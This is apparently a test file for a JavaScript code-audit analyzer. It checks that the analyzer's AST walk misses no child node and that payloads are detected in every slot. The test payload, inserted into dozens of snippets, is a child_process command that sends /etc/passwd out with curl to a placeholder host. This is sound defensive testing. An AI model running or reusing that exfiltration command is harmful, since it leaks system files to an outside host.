// The analysis walks the common node types by named children (WALKED_CHILDREN) instead of every key
// of every node. A child the list missed would be code the analysis never reads: an attacker's
// hiding place. These tests hold the list against the parser and put a payload in every slot.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';
import { analyzeSource, WALKED_CHILDREN } from '../../src/audit/code/analyze.js';
import { parseSource, type AstNode } from '../../src/audit/code/parse.js';

/** Every syntax form the parser knows, more or less: each one's node keys are checked. */
const SYNTAX = `#!/usr/bin/env node
'use strict';
import def, * as ns from './a.js';
import { x as y, 'str' as z } from './b.js';
import json from './c.json' with { type: 'json' };
export { y as w };
export * from './d.js';
export * as e from './e.js';
export default class K extends (def ?? Object) {
  static #p = 1; q = 2; #m() { return this.#p; } static { this.r = 3; }
  get g() { return super.g; } set g(v) {} async *gen() { yield* [1]; yield 2; await null; }
  constructor(...rest) { super(...rest); new.target; }
}
export const [a1, , a2 = 1, ...aRest] = [1, 2, 3], { b1, b2: { b3 = 4 } = {}, ...bRest } = {};
export function f(p1, p2 = p1, { p3 } = {}, [p4] = [], ...p5) { return arguments.length; }
function strict() { 'use strict'; }
export async function g() { for await (const v of []) {} return import.meta.url; }
label: for (let i = 0, j; i < 1; i++, j--) { if (i) continue label; else break label; }
for (const k in {}) {} for (var v of []) {} while (false) {} do {} while (false);
switch (a1) { case 1: break; default: }
try { throw new Error('x'); } catch ({ message }) {} finally {}
try {} catch {}
const o = { a: 1, 'b': 2, [a1]: 3, c() {}, get d() { return 1; }, set d(v) {}, async e() {}, *f() {}, ...bRest, a2 };
const t = tag\`x\${a1}y\${a2}z\`, u = \`plain\`, r = /re/g, big = 10n;
const arrow = async (q = 1, ...more) => ({ q, more }), arrow2 = (x) => { return x?.y?.[0]?.(1); };
a1 ? a2 : b1; !a1; typeof a1; void 0; delete o.a; a1 ** 2; a1 ||= 1; a1 &&= 2; a1 ??= 3; a1 += 1;
(a1, a2); debugger; ;
(function named() {})(); (class {});
`;

function* nodes(node: unknown): Generator<AstNode> {
  if (!node || typeof node !== 'object') return;
  if (Array.isArray(node)) {
    for (const child of node) yield* nodes(child);
    return;
  }
  const n = node as AstNode;
  if (typeof n.type !== 'string') return;
  yield n;
  for (const key in n) if (key !== 'regex' && n[key] && typeof n[key] === 'object') yield* nodes(n[key]);
}

function childKeys(node: AstNode): string[] {
  const keys: string[] = [];
  for (const key in node) {
    const value = node[key];
    if (!value || typeof value !== 'object' || key === 'regex') continue;
    const holds = Array.isArray(value) ? value.some((c) => c && typeof c === 'object' && typeof c.type === 'string') : typeof value.type === 'string';
    if (holds) keys.push(key);
  }
  return keys;
}

function sources(): Array<[string, string, boolean]> {
  const out: Array<[string, string, boolean]> = [['syntax sample', SYNTAX, true]];
  // Real code: the parser's own bundle and every JavaScript file of the audit fixtures.
  out.push(['meriyah', readFileSync(createRequire(import.meta.url).resolve('meriyah'), 'utf8'), false]);
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir, { withFileTypes: true })) {
      const path = join(dir, entry.name);
      if (entry.isDirectory()) walk(path);
      else if (/\.[cm]?js$/.test(entry.name)) out.push([path, readFileSync(path, 'utf8'), entry.name.endsWith('.mjs')]);
    }
  };
  walk(new URL('../fixtures/audit', import.meta.url).pathname);
  return out;
}

test('WALKED_CHILDREN names every child the parser gives those node types, in the parser order', () => {
  let checked = 0;
  const types = new Set<string>();
  for (const [name, text, module] of sources()) {
    for (const ranges of [false, true]) {
      const parsed = parseSource(text, module, ranges);
      if (!parsed.ast) continue;
      for (const node of nodes(parsed.ast)) {
        const table = WALKED_CHILDREN[node.type];
        if (!table) continue;
        const keys = childKeys(node);
        for (const key of keys) assert.ok(table.includes(key), `${name}: ${node.type}.${key} holds code the walk would not visit`);
        for (let i = 1; i < keys.length; i++) assert.ok(table.indexOf(keys[i - 1]!) < table.indexOf(keys[i]!), `${name}: ${node.type} children out of source order (${keys.join(', ')})`);
        checked++;
        types.add(node.type);
      }
    }
  }
  // Positive control: the check really looked at every tabled type.
  for (const type of Object.keys(WALKED_CHILDREN)) assert.ok(types.has(type), `no ${type} node in the samples`);
  assert.ok(checked > 10_000);
});

test('a payload in every child slot of every walked node type is found', () => {
  const P = 'require("child_process").exec("curl -d @/etc/passwd x.invalid")';
  const slots: Record<string, string> = {
    'MemberExpression.object': `(${P}).x;`,
    'MemberExpression.property': `a[${P}];`,
    'CallExpression.callee': `(${P})();`,
    'CallExpression.arguments': `f(1, ${P});`,
    'NewExpression.callee': `new (g(${P}))();`,
    'NewExpression.arguments': `new X(${P});`,
    'ExpressionStatement.expression': `${P};`,
    'ChainExpression.expression': `a?.b(${P});`,
    'BinaryExpression.left': `(${P}) + 1;`,
    'BinaryExpression.right': `1 + ${P};`,
    'LogicalExpression.left': `(${P}) || 1;`,
    'LogicalExpression.right': `a && ${P};`,
    'AssignmentExpression.left': `a[${P}] = 1;`,
    'AssignmentExpression.right': `a = ${P};`,
    'VariableDeclaration.declarations': `var a = 1, b = ${P};`,
    'VariableDeclarator.id': `var { a = ${P} } = {};`,
    'VariableDeclarator.init': `let a = ${P};`,
    'Property.key': `({ [${P}]: 1 });`,
    'Property.value': `({ a: ${P} });`,
    'ObjectExpression.properties': `({ a: 1, ...${P} });`,
    'ArrayExpression.elements': `[1, , ${P}];`,
    'BlockStatement.body': `{ ${P}; }`,
    'Program.body': `${P}`,
    'ReturnStatement.argument': `function r() { return ${P}; }`,
    'UnaryExpression.argument': `!${P};`,
    'UpdateExpression.argument': `a[${P}]++;`,
    'SpreadElement.argument': `f(...${P});`,
    'AwaitExpression.argument': `async function w() { await ${P}; }`,
    'ThrowStatement.argument': `function t() { throw ${P}; }`,
    'IfStatement.test': `if (${P}) ;`,
    'IfStatement.consequent': `if (a) ${P};`,
    'IfStatement.alternate': `if (a) ; else ${P};`,
    'ConditionalExpression.test': `(${P}) ? 1 : 2;`,
    'ConditionalExpression.consequent': `a ? ${P} : 2;`,
    'ConditionalExpression.alternate': `a ? 1 : ${P};`,
    'SequenceExpression.expressions': `(1, ${P});`,
    'FunctionDeclaration.params': `function d(a = ${P}) {}`,
    'FunctionDeclaration.body': `function d() { ${P}; }`,
    'FunctionExpression.params': `(function (a = ${P}) {});`,
    'FunctionExpression.body': `(function () { ${P}; });`,
    'ArrowFunctionExpression.params': `((a = ${P}) => 1);`,
    'ArrowFunctionExpression.body': `(() => ${P});`,
  };
  // Identifiers are names, never code (FunctionDeclaration.id and the like hold no payload).
  for (const [type, keys] of Object.entries(WALKED_CHILDREN)) {
    for (const key of keys) if (!(type.startsWith('Function') && key === 'id')) assert.ok(slots[`${type}.${key}`], `no sample for ${type}.${key}`);
  }
  for (const [slot, code] of Object.entries(slots)) {
    const facts = analyzeSource(code);
    assert.ok(facts.parsed, `${slot}: ${facts.parseError}`);
    const found = facts.evidence.map((e) => e.signal ?? e.capability);
    assert.ok(found.includes('child-process') && found.includes('shell-network'), `${slot}: ${found.join(', ')}`);
  }
  // Negative control: the same shapes without the payload find nothing.
  assert.deepEqual(analyzeSource(slots['Property.key']!.replace(P, 'x')).evidence, []);
});
